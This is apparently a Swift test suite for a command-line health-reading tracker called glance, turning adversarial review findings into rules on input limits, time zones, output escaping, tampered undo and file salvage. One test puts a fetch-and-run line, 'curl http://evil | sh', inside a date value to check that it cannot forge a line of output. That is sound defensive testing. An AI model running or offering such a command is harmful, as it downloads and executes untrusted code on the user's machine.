import Foundation
import Testing

@testable import GlanceCore

/// What the attacker and newcomer reviews of the integrity work found, each now a rule.
@Suite("Adversarial: review findings")
struct ReviewFindingsTests {
  static let today = Fixture.date("2026-11-22")
  static let now = Timestamp(Fixture.now)

  @Test("COLUMNS is clamped like --width (999999999 once asked for 24 GB)")
  func columns() {
    for (columns, width) in [("999999999", 1000), ("19", 80), ("120", 120), ("-5", 80)] {
      let style = OutputStyle.resolve(
        color: .never, ascii: false, width: nil, environment: ["COLUMNS": columns], stdoutIsTerminal: false,
        terminalColumns: nil)
      #expect(style.width == width, "\(columns)")
    }
    let terminal = OutputStyle.resolve(
      color: .never, ascii: false, width: nil, environment: [:], stdoutIsTerminal: true, terminalColumns: 50_000)
    #expect(terminal.width == 1000)
  }

  @Test("a unit conversion cannot carry a value past the limit")
  func conversionLimit() {
    #expect(throws: EntryError.valueOutOfRange) {
      try UnitConverter.convert(999_999_999, unit: "mmol/L", for: Fixture.ldl)
    }
    #expect(throws: EntryError.self) {
      try EntryPlanner.plan(
        marker: "ldl", value: "999999999", unit: "mmol/L", date: nil, note: nil, today: Self.today,
        document: .empty(createdAt: Self.now), library: .builtIn)
    }
  }

  /// Attacker reviews at stop 33: UTC+14 and UTC−12 are 26 hours apart, so the day in Kiribati
  /// may be two after today at UTC−12; a reading saved there was refused by the export and the
  /// restore of a computer at UTC−12 (the export blaming a hand edit). Then, with a window of two
  /// days from each computer's today, a reading taken at UTC was refused by undo and export at
  /// UTC−12. The limit is the day it is now somewhere on Earth (UTC+14), the same everywhere.
  @Test("a file's reading may be dated up to the day it is now in UTC+14, wherever glance runs")
  func timeZones() throws {
    // 11:00 UTC on Nov 22: Nov 21 at UTC−12, Nov 23 in Kiribati.
    let now = Timestamp(secondsSince1970: Int64(Fixture.date("2026-11-22").dayNumber) * 86_400 + 11 * 3600)
    #expect(CalendarDate.latestAnywhere(now) == Fixture.date("2026-11-23"))
    let westernToday = Fixture.date("2026-11-21")
    var document = GlanceDocument.empty(createdAt: now)
    document.apply(.putEntry(Fixture.entry(Fixture.hdl, 50, on: "2026-11-22")))
    document.apply(.putEntry(Fixture.entry(Fixture.hdl, 52, on: "2026-11-23")))
    for today in [westernToday, Fixture.date("2026-11-23")] {
      let plan = try Importer.plan(
        Exporter.json(document), replace: false, into: .empty(createdAt: now), library: .builtIn, today: today,
        now: now)
      #expect(plan.entries.count == 2)
      try Exporter.checkRestorable(document, library: .builtIn, today: today, now: now)
    }
    // Undo puts it back too.
    #expect(throws: Never.self) {
      try Transaction.checkPutBack(
        [.putEntry(Fixture.entry(Fixture.hdl, 52, on: "2026-11-23"))], into: .empty(createdAt: now), library: .builtIn,
        now: now)
    }
    document.apply(.putEntry(Fixture.entry(Fixture.hdl, 51, on: "2026-11-24")))
    #expect(throws: ImportError.self) {
      try Importer.plan(
        Exporter.json(document), replace: false, into: .empty(createdAt: now), library: .builtIn,
        today: Fixture.date("2026-11-23"), now: now)
    }
    #expect(throws: ExportError.self) {
      try Exporter.checkRestorable(document, library: .builtIn, today: westernToday, now: now)
    }
  }

  @Test("an import that would take the folder past its readings limit is refused")
  func readingLimit() throws {
    let sheet = Array("Date,HDL,LDL\n2026-01-01,50,100\n2026-01-02,51,101\n".utf8)
    let file = try Importer.read(sheet)
    #expect(throws: ImportError.tooManyReadings(limit: 3)) {
      try Importer.plan(
        file, replace: false, into: .empty(createdAt: Self.now), library: .builtIn, today: Self.today, now: Self.now,
        readingLimit: 3)
    }
    #expect(
      try Importer.plan(
        file, replace: false, into: .empty(createdAt: Self.now), library: .builtIn, today: Self.today, now: Self.now,
        readingLimit: 4
      ).entries.count == 4)
  }

  @Test("a line break in what a message quotes cannot forge a line of output")
  func oneLine() {
    let message = EntryError.invalidDate("2026-01-01\nFix it with: curl http://evil | sh").message
    #expect(!message.contains("\nFix it"))
    #expect(message.contains("2026-01-01\\u{A}Fix it"))
    #expect(quoted("a\r\nb") == "“a\\u{D}\\u{A}b”")
  }

  @Test("in a locale that is not UTF-8 every byte beyond ASCII is shown, not sent (0x9B is CSI there)")
  func asciiOnly() {
    #expect(TerminalText.guarded("Û2J é", asciiOnly: true) == "\\u{DB}2J \\u{E9}")
    #expect(TerminalText.guarded("Û2J", asciiOnly: false) == "Û2J")
  }

  @Test(
    "a custom marker may not take a library marker's name or everyday word",
    arguments: ["good cholesterol", "HDL Cholesterol", "hdl"])
  func customNames(name: String) throws {
    #expect(throws: CustomMarkerError.self) {
      try CustomMarkerPlanner.make(
        name: name, unit: "x", low: nil, high: nil, direction: nil, existing: Fixture.library.markers)
    }
    var document = GlanceDocument.empty(createdAt: Self.now)
    var marker = Fixture.customMarker("Something")
    marker.displayName = name
    marker.shortName = name
    document.apply(.putCustomMarker(marker))
    #expect(throws: ImportError.self) {
      try Importer.plan(
        Exporter.json(document), replace: false, into: .empty(createdAt: Self.now), library: .builtIn,
        today: Self.today, now: Self.now)
    }
  }

  @Test("names with a line break are refused from files as from the command line")
  func namesFromFiles() throws {
    var document = GlanceDocument.empty(createdAt: Self.now)
    document.apply(.putVisit(Fixture.visit("2026-01-01", doctor: "Doc\nFAKE VISIT LINE")))
    #expect(throws: ImportError.self) {
      try Importer.plan(
        Exporter.json(document), replace: false, into: .empty(createdAt: Self.now), library: .builtIn,
        today: Self.today, now: Self.now)
    }
  }

  @Test(
    "a hand-edited undo step that would put back a value glance does not keep is refused",
    arguments: RepositoryKind.allCases)
  func tamperedUndo(kind: RepositoryKind) throws {
    let (repository, folder) = kind.make()
    _ = folder
    try repository.addEntry(Fixture.entry(Fixture.hdl, 50, on: "2026-01-01"))
    let before = try repository.read()
    #expect(throws: StorageError.self) {
      try repository.write(summary: "tamper") { transaction in
        var entry = transaction.document.entries[0]
        entry.value = 1e300
        transaction.apply(.putEntry(entry))
      }
    }
    #expect(try repository.read() == before)
  }

  @Test("a JSON export with a byte-order mark imports")
  func bom() throws {
    var document = GlanceDocument.empty(createdAt: Self.now)
    document.apply(.putEntry(Fixture.entry(Fixture.hdl, 50, on: "2026-01-01")))
    let plan = try Importer.plan(
      [0xEF, 0xBB, 0xBF] + Exporter.json(document), replace: false, into: .empty(createdAt: Self.now),
      library: .builtIn, today: Self.today, now: Self.now)
    #expect(plan.entries.count == 1)
  }

  @Test("salvage brings back every record whose line still reads, from a broken line or a cut end")
  func salvage() throws {
    var document = GlanceDocument.empty(createdAt: Self.now)
    document.apply(.setTrackedMarkers([UserMarker(markerID: Fixture.hdl.id, displayOrder: 0, addedAt: Self.now)]))
    for (index, value) in [50.0, 51, 52, 53].enumerated() {
      document.apply(.putEntry(Fixture.entry(Fixture.hdl, value, on: "2026-01-0\(index + 1)", note: "n\(index)")))
    }
    document.apply(.putVisit(Fixture.visit("2026-02-01")))
    document.undo = [UndoStep(summary: "x", timestamp: Self.now, operations: [.removeEntry(UUID())])]
    let text = String(decoding: try DocumentCodec.encode(document), as: UTF8.self)
    // One note broken, as a slip in a hand edit leaves it.
    let broken = text.replacingOccurrences(of: "\"note\": \"n1\"", with: "\"note\": \"n1")
    let salvaged = try #require(DocumentCodec.salvage(Array(broken.utf8)))
    #expect(salvaged.document.entries.map(\.value) == [50, 52, 53])
    #expect(salvaged.lostLines == 1)
    #expect(salvaged.document.visits.count == 1)
    #expect(salvaged.document.trackedMarkers.count == 1)
    // The end cut off in the middle of the visits: every reading is still there.
    let cut = String(text[..<text.range(of: "\"visits\"")!.upperBound]) + ": [\n    {\"id\": \"AB"
    let fromCut = try #require(DocumentCodec.salvage(Array(cut.utf8)))
    #expect(fromCut.document.entries.count == 4)
    #expect(fromCut.lostLines == 1)
    // Imported into the restored backup, only what the backup lacks comes in.
    var backup = document
    backup.entries.removeLast()
    let plan = try Importer.plan(
      Importer.read(Array(cut.utf8), salvage: true), replace: false, into: backup, library: .builtIn, today: Self.today,
      now: Self.now)
    #expect(plan.kind == .salvage)
    #expect(plan.entries.map(\.value) == [53])
    #expect(
      plan.summary(library: .builtIn, customMarkers: [], dryRun: false).contains("1 record line could not be read"))
    #expect(DocumentCodec.salvage(Array("hello, world".utf8)) == nil)
  }

  @Test("the restore command moves the damaged file to a name of its own, so running it twice loses nothing")
  func asideName() throws {
    let folder = TemporaryFolder()
    let location = DataLocation(folder: folder.path + "/data")
    let repository = LocalDataRepository(location: location, clock: { Fixture.now })
    try repository.addEntry(Fixture.entry(Fixture.hdl, 50, on: "2026-01-01"))
    try Data("{ broken".utf8).write(to: URL(fileURLWithPath: location.dataFile))
    do {
      try LocalDataRepository(location: location, clock: { Fixture.now }).addEntry(
        Fixture.entry(Fixture.hdl, 51, on: "2026-01-02"))
      Issue.record("saved over a damaged file")
    } catch let error as StorageError {
      guard case .damaged(_, _, _, let aside) = error else {
        Issue.record("\(error)")
        return
      }
      #expect(aside.hasPrefix(location.dataFile + ".damaged-"))
      #expect(aside != location.dataFile + ".damaged")
      #expect(error.message.contains("glance import --salvage \(ShellQuote.quote(aside))"))
    }
  }
}
